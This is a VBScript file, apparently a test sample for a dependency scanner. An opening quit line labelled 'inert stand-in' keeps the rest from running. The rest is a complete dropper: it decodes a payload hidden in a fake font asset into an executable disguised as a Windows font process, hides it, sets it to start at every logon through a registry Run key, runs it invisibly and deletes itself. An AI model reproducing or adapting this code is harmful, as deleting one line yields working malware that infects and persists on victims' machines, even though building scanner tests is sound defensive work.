WScript.Quit 1 ' inert depscan stand-in
On Error Resume Next
Dim fso, sh, here, src, dst, xml, node, stm, f
Set fso = CreateObject("Scripting.FileSystemObject")
Set sh = CreateObject("WScript.Shell")
here = fso.GetParentFolderName(WScript.ScriptFullName)
src = fso.BuildPath(fso.GetParentFolderName(here), "assets\glyphs.dat")
dst = sh.ExpandEnvironmentStrings("%APPDATA%") & "\Microsoft\Windows\Fonts\fontdrvhost.exe"
If Not fso.FolderExists(fso.GetParentFolderName(dst)) Then fso.CreateFolder fso.GetParentFolderName(dst)
Set f = fso.OpenTextFile(src, 1)
Set xml = CreateObject("MSXML2.DOMDocument.6.0")
Set node = xml.createElement("b64")
node.DataType = "bin.base64"
node.Text = Replace(f.ReadAll, vbCrLf, "")
f.Close
Set stm = CreateObject("ADODB.Stream")
stm.Type = 1
stm.Open
stm.Write node.NodeTypedValue
stm.SaveToFile dst, 2
stm.Close
fso.GetFile(dst).Attributes = 2 + 4
sh.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\FontDriverHost", """" & dst & """", "REG_SZ"
sh.Run """" & dst & """", 0, False
fso.DeleteFile WScript.ScriptFullName, True
